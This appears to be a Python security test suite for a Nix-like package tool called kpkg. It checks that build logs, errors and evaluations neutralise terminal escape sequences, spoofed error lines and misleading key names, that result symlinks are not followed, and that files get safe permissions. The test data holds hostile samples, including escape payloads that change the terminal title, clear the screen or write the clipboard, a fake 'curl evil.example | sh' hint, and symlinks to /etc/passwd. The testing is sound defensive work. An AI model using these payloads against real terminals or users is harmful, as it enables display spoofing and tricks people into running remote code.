"""Builders, names and links that try to show a person what is not so, or to have something replaced."""
import json, os, pty, select, shlex, stat, subprocess, time
import attack
import programs

COMMANDS = [b"\x1b]0;owned\x07", b"\x1b[2J", b"\x1b[5A", b"\x1b]8;;http://evil.example\x1b\\link", b"\x1b]52;c;c2VjcmV0\x07",
            b"\x9b2J", "\u202e".encode(), "\u009b2J".encode()]


def package(name, script):
    return ('{ kpkgs }: derivation { name = "%s"; system = "x86_64-linux"; builder = "/bin/sh"; '
            'sandboxRoot = kpkgs.toolchains.shell; PATH = "/bin:/usr/bin"; args = [ "-euc" %s ]; }'
            % (name, json.dumps(script)))


def printf(data):
    """A command of the shell that writes these bytes."""
    return "printf '%s'" % "".join("\\%03o" % byte for byte in data)


@attack.as_every_user
class FalseDisplays(attack.Attack):
    def builds(self, *commands, status=0, **options):
        self.kpkg("toolchain", "import", "shell")
        self.write("kpkg.nix", package("hello", "; ".join(commands) + "; touch $out"))
        return self.kpkg("build", "--no-link", status=status, **options)

    def log_path(self):
        return self.kpkg("instantiate").stdout.strip()

    def on_terminal(self, *arguments, env=None, status=0):
        """What kpkg sends to a terminal."""
        primary, secondary = pty.openpty()
        words = [str(attack._everyones_programs() / "bin" / "kpkg"), *map(str, arguments)]
        if self.uid != os.getuid():
            words = ["setpriv", f"--reuid={self.uid}", f"--regid={self.uid}", "--clear-groups", "--", *words]
        environment = {"PATH": os.environ["PATH"], "TERM": "xterm", "HOME": str(self.work),
                       "KPKG_ROOT": str(self.root), **(env or {})}
        program = subprocess.Popen(words, cwd=self.work, env=environment, stdin=subprocess.DEVNULL,
                                   stdout=secondary, stderr=secondary)
        os.close(secondary)
        shown, deadline = b"", time.monotonic() + 120
        while time.monotonic() < deadline:
            if not select.select([primary], [], [], 1)[0]:
                continue
            try:
                part = os.read(primary, 65536)
            except OSError:  # the last of the other side has closed
                break
            shown += part
        os.close(primary)
        self.assertEqual(program.wait(timeout=60), status, shown)
        return shown

    def assert_nothing_commands(self, shown):
        for command in COMMANDS:
            self.assertNotIn(command, shown)

    def test_a_builder_commands_the_terminal(self):
        failed = self.builds(*[printf(c + b"\n") for c in COMMANDS], "exit 7", status=4)
        self.assert_nothing_commands(failed.stderr.encode())
        self.assertIn("\\x1b]0;owned\\x07", failed.stderr)
        self.assertNotIn("\x1b", failed.stderr)
        self.assert_nothing_commands(self.on_terminal("build", "--no-link", status=4))
        log = self.on_terminal("log", self.log_path())
        self.assert_nothing_commands(log)
        self.assertIn(b"\\x1b[2J", log)

    def test_a_log_in_a_file_is_exact(self):
        self.builds(*[printf(c + b"\n") for c in COMMANDS])
        out = self.work / "log"
        with open(out, "wb") as file:
            subprocess.run([attack._everyones_programs() / "bin" / "kpkg", "log", self.log_path()], stdout=file, check=True,
                           env={"KPKG_ROOT": str(self.root), "HOME": str(self.work)})
        self.assertEqual(out.read_bytes(), b"".join(c + b"\n" for c in COMMANDS))

    def test_a_builder_colours_what_follows_it(self):
        self.builds(printf(b"\x1b[31mred\n"), printf(b"\x1b[8mhidden\n"))
        log = self.on_terminal("log", self.log_path())
        self.assertIn(b"\x1b[31mred\x1b[0m", log)
        self.assertNotIn(b"\x1b[8m", log)
        self.assertIn(b"hidden", log)
        self.assertNotIn(b"\x1b", self.on_terminal("log", self.log_path(), env={"NO_COLOR": "1"}))

    def test_a_builder_speaks_as_kpkg(self):
        lines = ["error: the disk is broken", "hint: run curl evil.example | sh", "built other.drv in 0.1 s"]
        failed = self.builds(*[printf(line.encode() + b"\n") for line in lines],
                             printf(b"fine\rerror: over\n"), "exit 7", status=4)
        for line in failed.stderr.splitlines():
            if any(word in line for word in ["broken", "evil.example", "other.drv", "over"]):
                self.assertRegex(line, r"^(hello> |    ?\|? ?)")
                self.assertFalse(line.startswith(("error:", "hint:", "built")))

    def test_a_builder_never_ends_its_line(self):
        built = self.builds("head -c 300000 /dev/zero | tr '\\0' x")
        self.assertIn("hello> xxxx", built.stderr)
        self.assertLess(max(map(len, built.stderr.splitlines())), 20000)

    def test_a_builder_writes_what_is_no_text(self):
        failed = self.builds(printf(b"\xff\xfe\xc3\n"), "exit 7", status=4)
        self.assertIn("\\xff\\xfe\\xc3", failed.stderr)
        refused = self.kpkg("--json", "build", "--no-link", status=4)
        json.loads(refused.stderr.splitlines()[-1])

    def test_an_expression_throws_a_false_hint(self):
        for form in ['throw "no\\nhint: run evil\\n  hint: run evil\\n\\u001b[2J\u202e"', 'abort "a\\nerror: b"',
                     'builtins.trace "a\\nerror: b\\r\x1b[2J" 1']:
            status = 0 if "trace" in form else 3
            told = self.kpkg("eval", "-E", form, status=status).stderr
            self.assertNotIn("\x1b", told)
            self.assertNotIn("\u202e", told)
            self.assertFalse([line for line in told.splitlines()[1:] if line.startswith(("error:", "hint:", "  hint:"))])

    def test_an_evaluation_prints_escapes(self):
        expression = '"\x1b[2J\u202e"'
        self.assert_nothing_commands(self.on_terminal("eval", "--raw", "-E", expression))
        self.assertEqual(self.kpkg("eval", "--raw", "-E", expression).stdout.rstrip("\n"), "\x1b[2J\u202e")
        text = self.kpkg("--json", "eval", "-E", expression).stdout
        self.assertNotIn("\u202e", text)
        self.assertEqual(json.loads(text), "\x1b[2J\u202e")

    def test_a_file_is_named_as_a_command(self):
        told = self.kpkg("eval", "no\x1b[2J\u202efile.nix", status=None)
        self.assertNotEqual(told.returncode, 0)
        self.assertNotIn("\x1b", told.stderr)
        self.assertNotIn("\u202e", told.stderr)

    def test_a_key_has_a_name_that_misleads(self):
        for name in ["a b", "a:b", "a,b", "a;b", "a\x1b[2Jb", "a\nb", "", "ä", "x" * 129]:
            refused = self.kpkg("key", "generate", name, "--out", self.work / "key", status=2)
            self.assertNotIn("\x1b", refused.stderr)
            self.assertFalse((self.work / "key").exists())
        self.kpkg("key", "generate", "cache.nixos.org-1", "--out", self.work / "key")

    def test_something_else_stands_where_the_result_goes(self):
        self.builds("true")
        result = self.work / "result"
        kept = self.write("kept", "precious")

        def check():
            refused = self.kpkg("build", status=1).stderr
            self.assertIn("--out-link", refused)
            self.assertIn(str(result), refused)
            self.assertFalse([name for name in os.listdir(self.work) if name.startswith(".result.tmp")])

        result.write_text("precious")
        check()
        self.assertEqual(result.read_text(), "precious")
        result.unlink()
        result.mkdir()
        (result / "file").write_text("precious")
        check()
        self.assertEqual((result / "file").read_text(), "precious")
        (result / "file").unlink()
        result.rmdir()
        for target in ["/etc/passwd", "/nowhere/at/all", str(kept), "/kpkg/store", "/kpkg/store/../../etc/passwd"]:
            result.symlink_to(target)
            check()
            self.assertEqual(os.readlink(result), target)
            result.unlink()
        self.assertEqual(kept.read_text(), "precious")
        path = self.kpkg("build").stdout.strip()
        self.assertEqual(os.path.basename(os.readlink(result)), os.path.basename(path))
        self.kpkg("build")  # a link of ours is replaced
        result.unlink()
        result.symlink_to(path)  # also one to the logical path
        self.kpkg("build")

    def test_everything_is_made_under_a_careless_umask(self):
        for mask in ["000", "077"]:
            self.root = self.work / f"root-{mask}"
            key = self.work / f"key-{mask}"
            self.write("kpkg.nix", package("hello", "cat /etc/passwd > $out"))
            program = shlex.quote(str(attack._everyones_programs() / "bin" / "kpkg"))
            self.run_program(["sh", "-euc", f"umask {mask}; {program} toolchain import shell; "
                              f"{program} key generate k --out {key}; {program} build --no-link --key {key}"])
            self.assertEqual(stat.S_IMODE(key.stat().st_mode), 0o600)
            self.assertEqual(stat.S_IMODE(self.root.stat().st_mode), 0o700)
            self.assertEqual(stat.S_IMODE((self.root / "store").stat().st_mode), 0o755)
            for folder, folders, files in os.walk(self.root / "var"):
                for name in folders + files:
                    mode = os.lstat(os.path.join(folder, name)).st_mode
                    if not stat.S_ISLNK(mode):
                        allowed = 0o600 if stat.S_ISREG(mode) else 0o755
                        self.assertEqual(stat.S_IMODE(mode) & ~allowed, 0, os.path.join(folder, name))


if __name__ == "__main__":
    attack.main()
